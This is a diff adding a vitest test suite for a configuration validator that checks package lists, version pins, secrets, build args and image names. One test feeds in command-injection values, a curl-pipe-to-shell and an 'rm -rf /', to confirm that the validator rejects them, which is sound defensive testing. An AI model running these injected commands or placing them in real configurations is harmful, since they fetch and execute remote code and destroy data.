@@ -0,0 +1,147 @@
+import { describe, expect, it } from "vitest";
+import { createMockLogger, withTempDir } from "../test-utils.js";
+import { PresetService } from "./PresetService.js";
+import { ToolConfigValidator } from "./ToolConfigValidator.js";
+
+/**
+ * Validate content with only the built-in presets available
+ */
+async function validate(content: string) {
+	let issues: ReturnType<ToolConfigValidator["validate"]> = [];
+	await withTempDir(async (dir) => {
+		const presets = new PresetService(createMockLogger(), { presetsDir: dir });
+		issues = new ToolConfigValidator(presets).validate(content);
+	});
+	return issues;
+}
+
+describe("ToolConfigValidator", () => {
+	it("accepts a valid configuration", async () => {
+		const issues = await validate(
+			"presets: [k8s]\napt:\n  - jq@1.6-2.1\nnpm: ['@scope/cli@1.2.3']\npip: ['black[jupyter]']\nversions:\n  kubectl: 1.30.2\ncyrusVersion: latest\n",
+		);
+
+		expect(issues).toEqual([]);
+	});
+
+	it("reports a scalar where a list is expected with its position", async () => {
+		const issues = await validate("presets: [python]\napt: curl\n");
+
+		expect(issues).toEqual([
+			{
+				level: "error",
+				message: '"apt" must be a list (e.g. apt: [curl])',
+				line: 2,
+				column: 6,
+			},
+		]);
+	});
+
+	it("rejects shell metacharacters in package names and versions", async () => {
+		const issues = await validate(
+			'npm:\n  - "typescript; curl evil.sh | sh"\ncyrusVersion: "1.0 && rm -rf /"\n',
+		);
+
+		expect(issues.map((issue) => [issue.line, issue.level])).toEqual([
+			[2, "error"],
+			[3, "error"],
+		]);
+		expect(issues[0]?.message).toContain("Invalid npm package");
+		expect(issues[1]?.message).toContain("Invalid version for cyrusVersion");
+	});
+
+	it("requires cargoMultiStage to be a boolean", async () => {
+		const issues = await validate("cargo: [ripgrep]\ncargoMultiStage: yes\n");
+
+		expect(issues).toEqual([
+			{
+				level: "error",
+				message: '"cargoMultiStage" must be true or false',
+				line: 2,
+				column: 18,
+			},
+		]);
+	});
+
+	it("checks secrets and build args", async () => {
+		const issues = await validate(
+			[
+				"secrets:",
+				"  - id: npmrc",
+				"    src: ~/.npmrc",
+				"    steps: [npm, deploy]",
+				"  - id: npmrc",
+				"    env: NPM_TOKEN",
+				"  - id: token",
+				"  - id: pip",
+				"    env: PIP_TOKEN",
+				"    target: /tmp/pip,uid=0",
+				"buildArgs:",
+				"  REGISTRY: https://npm.example.com",
+				"  GITHUB_TOKEN: abc",
+				"",
+			].join("\n"),
+		);
+
+		expect(issues.map((issue) => [issue.line, issue.level, issue.message])).toEqual([
+			[4, "error", expect.stringContaining('Unknown step "deploy"')],
+			[5, "error", 'Duplicate secret id "npmrc"'],
+			[
+				7,
+				"error",
+				'Secret "token" needs exactly one of src (a file) or env (an environment variable)',
+			],
+			[
+				10,
+				"error",
+				"Secret target must be an absolute path without spaces, commas or quotes",
+			],
+			[13, "warning", expect.stringContaining("use secrets instead")],
+		]);
+	});
+
+	it("requires image to be a repository without a tag", async () => {
+		const issues = await validate("image: ghcr.io/acme/cyrus-tools:latest\n");
+
+		expect(issues).toEqual([
+			{
+				level: "error",
+				message:
+					'"image" must be an image repository without a tag (e.g. ghcr.io/acme/cyrus-tools)',
+				line: 1,
+				column: 8,
+			},
+		]);
+		expect(await validate("image: localhost:5000/cyrus-tools\n")).toEqual([]);
+	});
+
+	it("reports unknown keys and presets", async () => {
+		const issues = await validate("presets: [python, cobol]\npackages: [jq]\n");
+
+		expect(issues.map((issue) => issue.message)).toEqual([
+			expect.stringContaining('Unknown preset "cobol"'),
+			expect.stringContaining('Unknown key "packages"'),
+		]);
+		expect(issues[0]).toMatchObject({ line: 1, column: 19 });
+	});
+
+	it("reports YAML syntax errors with their position", async () => {
+		const issues = await validate("apt: [jq\nnpm: [x]\n");
+
+		expect(issues[0]).toMatchObject({ level: "error", line: 2, column: 1 });
+		expect(issues[0]?.message).not.toContain("\n");
+	});
+
+	it("warns about version pins no selected preset uses", async () => {
+		const issues = await validate("presets: [go]\nversions:\n  kubectl: 1.30.2\n");
+
+		expect(issues).toEqual([
+			{
+				level: "warning",
+				message: 'Version pin for "kubectl" is not used by any selected preset',
+				line: 3,
+				column: 3,
+			},
+		]);
+	});
+});